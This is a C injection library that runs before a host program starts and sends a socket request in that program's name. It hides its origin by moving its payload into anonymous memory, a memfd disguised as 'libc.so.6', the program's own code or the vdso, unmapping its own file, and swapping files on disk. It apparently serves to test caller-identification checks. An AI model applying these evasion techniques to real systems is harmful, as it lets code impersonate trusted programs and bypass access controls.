/* A library that asks in the name of the program it was loaded into, before that program's first instruction.
 *
 * INJECT_SOCKET, INJECT_REQUEST: where and what. INJECT_FROM: where its code lies when it asks:
 *   library   in its own file               anonymous  in anonymous memory, its own file unmapped
 *   memfd     the same, in a memfd          text       over the program's own code
 *   vdso      over the kernel's vdso page
 * INJECT_SWAP: a file that is put where INJECT_OVER is, just before it asks.
 */
#include "payload.h"
#include <link.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/auxv.h>
#include <unistd.h>

#ifndef VARIANT
#define VARIANT "plain"
#endif
__attribute__((used)) static const char variant[] = "variant " VARIANT;

/* What makes it a library for LD_AUDIT too. */
unsigned int la_version(unsigned int version) { return version; }

static size_t code_bytes = 4096;

static void fail(const char *why) {
    dprintf(2, "inject: %s\n", why);
    _exit(8);
}

/* The mappings of the file that ``address`` lies in go into the order; the first executable one is returned. */
static void *mappings_of(struct order *order, const void *address, int unmap) {
    static struct { unsigned long start, end; char permissions[5], name[512]; } lines[512];
    int count = 0;
    const char *name = "";
    FILE *maps = fopen("/proc/self/maps", "r");
    char text[1024];
    while (maps && count < 512 && fgets(text, sizeof text, maps)) {
        lines[count].name[0] = 0;
        sscanf(text, "%lx-%lx %4s %*s %*s %*s %511[^\n]", &lines[count].start, &lines[count].end,
               lines[count].permissions, lines[count].name);
        if ((uintptr_t)address >= lines[count].start && (uintptr_t)address < lines[count].end) name = lines[count].name;
        count++;
    }
    if (maps) fclose(maps);
    void *code = NULL;
    for (int at = 0; at < count; at++) {
        /* The kernel splits no vdso (vm_special_mapping): its protection changes as a whole. */
        if (lines[at].permissions[2] == 'x' && (uintptr_t)address == lines[at].start)
            code_bytes = lines[at].end - lines[at].start;
        if (strcmp(lines[at].name, name) != 0 || !name[0]) continue;
        if (lines[at].permissions[2] == 'x' && !code) code = (void *)lines[at].start;
        if (unmap && order->unmaps < MOST_RANGES) {
            order->unmap[order->unmaps].start = (void *)lines[at].start;
            order->unmap[order->unmaps++].length = lines[at].end - lines[at].start;
        }
    }
    return code;
}

static void *room(struct order *order, const char *from) {
    if (!strcmp(from, "anonymous"))
        return mmap(NULL, PAYLOAD_BYTES, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (!strcmp(from, "memfd")) {
        int fd = memfd_create("libc.so.6", 0);
        if (fd < 0 || ftruncate(fd, PAYLOAD_BYTES)) fail("memfd");
        return mmap(NULL, PAYLOAD_BYTES, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
    }
    if (!strcmp(from, "vdso")) {
        mappings_of(order, (void *)getauxval(AT_SYSINFO_EHDR), 0);
        return (void *)getauxval(AT_SYSINFO_EHDR);
    }
    if (!strcmp(from, "text")) return mappings_of(order, (void *)getauxval(AT_ENTRY), 0);
    fail("unknown INJECT_FROM");
    return NULL;
}

__attribute__((constructor)) static void inject(void) {
    const char *socket = getenv("INJECT_SOCKET"), *request = getenv("INJECT_REQUEST"), *from = getenv("INJECT_FROM");
    if (!socket || !request || !from) return;
    struct order *order = mmap(NULL, sizeof *order, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (order == MAP_FAILED) fail("mmap");
    fill_order(order, socket, request);
    if (getenv("INJECT_SWAP") && rename(getenv("INJECT_SWAP"), getenv("INJECT_OVER"))) fail("rename");
    if (!strcmp(from, "library")) payload(order);
    char *code = room(order, from);
    if (!code || code == MAP_FAILED) fail("no room");
    char *page = (char *)((uintptr_t)code & ~4095UL);
    if (mprotect(page, code_bytes, PROT_READ | PROT_WRITE)) fail("mprotect");
    memcpy(code, (void *)payload, PAYLOAD_BYTES);
    if (mprotect(page, code_bytes, PROT_READ | PROT_EXEC)) fail("mprotect back");
    mappings_of(order, (void *)inject, 1);
    ((void (*)(struct order *))code)(order);
}
